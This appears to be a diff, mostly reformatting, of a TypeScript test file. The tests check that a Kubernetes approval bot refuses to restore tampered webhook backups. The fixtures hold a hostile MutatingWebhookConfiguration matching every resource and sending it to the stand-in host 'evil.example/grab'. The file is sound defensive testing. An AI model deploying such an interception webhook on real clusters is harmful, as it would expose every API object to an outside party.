@@ -18,11 +18,35 @@ type Any = any;
  * tampering is refused with a clear line, and no configuration is created (not even dry-run).
  */
 const webhook = (name: string, uid: string): KubeObject =>
-  ({ apiVersion: 'admissionregistration.k8s.io/v1', kind: 'ValidatingWebhookConfiguration', metadata: { name, uid }, webhooks: [{ name: `${name}.svc`, failurePolicy: 'Fail', rules: [{ operations: ['CREATE'], apiGroups: [''], apiVersions: ['v1'], resources: ['pods'] }] }] }) as unknown as KubeObject;
+  ({
+    apiVersion: 'admissionregistration.k8s.io/v1',
+    kind: 'ValidatingWebhookConfiguration',
+    metadata: { name, uid },
+    webhooks: [
+      {
+        name: `${name}.svc`,
+        failurePolicy: 'Fail',
+        rules: [{ operations: ['CREATE'], apiGroups: [''], apiVersions: ['v1'], resources: ['pods'] }],
+      },
+    ],
+  }) as unknown as KubeObject;
 /** What an attacker would like to create: a mutating webhook that sees every object of every kind. */
-const evil = { apiVersion: 'admissionregistration.k8s.io/v1', kind: 'MutatingWebhookConfiguration', metadata: { name: 'kyverno-policy' }, webhooks: [{ name: 'grab.evil', clientConfig: { url: 'https://evil.example/grab' }, rules: [{ operations: ['*'], apiGroups: ['*'], apiVersions: ['*'], resources: ['*/*'] }] }] };
+const evil = {
+  apiVersion: 'admissionregistration.k8s.io/v1',
+  kind: 'MutatingWebhookConfiguration',
+  metadata: { name: 'kyverno-policy' },
+  webhooks: [
+    {
+      name: 'grab.evil',
+      clientConfig: { url: 'https://evil.example/grab' },
+      rules: [{ operations: ['*'], apiGroups: ['*'], apiVersions: ['*'], resources: ['*/*'] }],
+    },
+  ],
+};
 
-const bot = useApprovalBot({ objects: [webhook('kyverno-policy', 'uid-kyverno'), webhook('other-policy', 'uid-other')] });
+const bot = useApprovalBot({
+  objects: [webhook('kyverno-policy', 'uid-kyverno'), webhook('other-policy', 'uid-other')],
+});
 let suspendA = '';
 let suspendB = '';
 let undoA = '';
@@ -30,7 +54,12 @@ let undoA = '';
 beforeAll(async () => {
   // Two real suspends through two approvals each: sealed backups in their slots, an undo button each.
   for (const name of ['kyverno-policy', 'other-policy']) {
-    const run = await bot.runApproved({ action: 'webhook.suspend', params: { kind: 'Validating', name }, label: `Suspend webhook ${name}`, risk: 'r' });
+    const run = await bot.runApproved({
+      action: 'webhook.suspend',
+      params: { kind: 'Validating', name },
+      label: `Suspend webhook ${name}`,
+      risk: 'r',
+    });
     if (run.request.status !== 'succeeded') throw new Error(`suspend ${name}: ${run.request.result}`);
     if (name === 'kyverno-policy') suspendA = run.requestId;
     else suspendB = run.requestId;
@@ -43,7 +72,10 @@ const backupKey = (id: string) => `k8s-health:backup:${id}`;
 const posts = () => bot.kube.writes.filter((w) => w.method === 'POST').length;
 const readBackup = async (id: string) => JSON.parse((await bot.redis.get(backupKey(id)))!) as StoredBackup;
 /** Run `fn` with the backup slot of request A changed, then put the genuine backup back. */
-async function withSlot(change: (b: StoredBackup) => StoredBackup | Promise<StoredBackup>, fn: () => Promise<void>): Promise<void> {
+async function withSlot(
+  change: (b: StoredBackup) => StoredBackup | Promise<StoredBackup>,
+  fn: () => Promise<void>,
+): Promise<void> {
   const genuine = (await bot.redis.get(backupKey(suspendA)))!;
   await bot.redis.set(backupKey(suspendA), JSON.stringify(await change(JSON.parse(genuine))), 'KEEPTTL');
   try {
@@ -68,29 +100,50 @@ async function refusedProposal(proposalId = undoA): Promise<string> {
 describe('webhook.restore only re-creates the exact object its suspend backed up', () => {
   it('an arbitrary configuration written into the backup slot (no seal): refused at proposal', async () => {
     const before = posts();
-    await withSlot(() => ({ what: 'MutatingWebhookConfiguration kyverno-policy', object: evil as unknown as KubeObject, savedAt: new Date().toISOString() }), async () => {
-      expect(await refusedProposal()).toBe(`Cannot propose *Restore webhook kyverno-policy*: ${shown(`the backup stored for request ${suspendA} carries no seal (saved before backups were sealed, or written by something other than the executor): refusing to use it`)}`);
-    });
+    await withSlot(
+      () => ({
+        what: 'MutatingWebhookConfiguration kyverno-policy',
+        object: evil as unknown as KubeObject,
+        savedAt: new Date().toISOString(),
+      }),
+      async () => {
+        expect(await refusedProposal()).toBe(
+          `Cannot propose *Restore webhook kyverno-policy*: ${shown(`the backup stored for request ${suspendA} carries no seal (saved before backups were sealed, or written by something other than the executor): refusing to use it`)}`,
+        );
+      },
+    );
     expect(posts()).toBe(before);
   });
 
   it('the genuine backup with its webhooks edited, seal kept: refused (the object no longer matches the sealed hash)', async () => {
     const before = posts();
-    await withSlot((b) => {
-      (b.object as Any).webhooks.push(evil.webhooks[0]);
-      return b;
-    }, async () => {
-      expect(await refusedProposal()).toContain(shown(`the backup stored for request ${suspendA} was changed after it was saved (its object no longer matches the sealed hash): refusing to use it`));
-    });
+    await withSlot(
+      (b) => {
+        (b.object as Any).webhooks.push(evil.webhooks[0]);
+        return b;
+      },
+      async () => {
+        expect(await refusedProposal()).toContain(
+          shown(
+            `the backup stored for request ${suspendA} was changed after it was saved (its object no longer matches the sealed hash): refusing to use it`,
+          ),
+        );
+      },
+    );
     expect(posts()).toBe(before);
   });
 
   it("another request's genuinely sealed backup copied into the slot: refused (saved by another request)", async () => {
     const before = posts();
     const other = await readBackup(suspendB);
-    await withSlot(() => other, async () => {
-      expect(await refusedProposal()).toContain(shown(`the backup stored for request ${suspendA} was saved by request ${suspendB}, not by this one`));
-    });
+    await withSlot(
+      () => other,
+      async () => {
+        expect(await refusedProposal()).toContain(
+          shown(`the backup stored for request ${suspendA} was saved by request ${suspendB}, not by this one`),
+        );
+      },
+    );
     expect(posts()).toBe(before);
   });
 
@@ -102,7 +155,9 @@ describe('webhook.restore only re-creates the exact object its suspend backed up
     forged.proposal = { ...forged.proposal, params: { ...forged.proposal.params, name: 'other-policy' } };
     await bot.redis.set(key, JSON.stringify(forged), 'KEEPTTL');
     try {
-      expect(await refusedProposal()).toContain(`was saved by webhook.suspend {"kind":"Validating","name":"kyverno-policy"}, not by the suspend of ValidatingWebhookConfiguration other-policy`);
+      expect(await refusedProposal()).toContain(
+        `was saved by webhook.suspend {"kind":"Validating","name":"kyverno-policy"}, not by the suspend of ValidatingWebhookConfiguration other-policy`,
+      );
     } finally {
       await bot.redis.set(key, genuine, 'KEEPTTL');
     }
@@ -117,15 +172,20 @@ describe('webhook.restore only re-creates the exact object its suspend backed up
     await bot.pauseWorker();
     await bot.vote(requestId!, 'U0ANN');
     expect(await bot.vote(requestId!, 'U0BEN')).toContain('last one needed');
-    await withSlot((b) => {
-      (b.object as Any).webhooks[0].clientConfig = { url: 'https://evil.example/grab' };
-      return b;
-    }, async () => {
-      bot.resumeWorker();
-      const done = await bot.waitStatus(requestId!, ['succeeded', 'failed', 'aborted']);
-      expect(done.status).toBe('aborted');
-      expect(done.result).toBe(`aborted, nothing was changed: the backup stored for request ${suspendA} was changed after it was saved (its object no longer matches the sealed hash): refusing to use it`);
-    });
+    await withSlot(
+      (b) => {
+        (b.object as Any).webhooks[0].clientConfig = { url: 'https://evil.example/grab' };
+        return b;
+      },
+      async () => {
+        bot.resumeWorker();
+        const done = await bot.waitStatus(requestId!, ['succeeded', 'failed', 'aborted']);
+        expect(done.status).toBe('aborted');
+        expect(done.result).toBe(
+          `aborted, nothing was changed: the backup stored for request ${suspendA} was changed after it was saved (its object no longer matches the sealed hash): refusing to use it`,
+        );
+      },
+    );
     expect(realPosts()).toBe(before);
     expect(bot.kube.find('ValidatingWebhookConfiguration', 'kyverno-policy')).toBeUndefined();
     expect(bot.kube.find('MutatingWebhookConfiguration', 'kyverno-policy')).toBeUndefined();
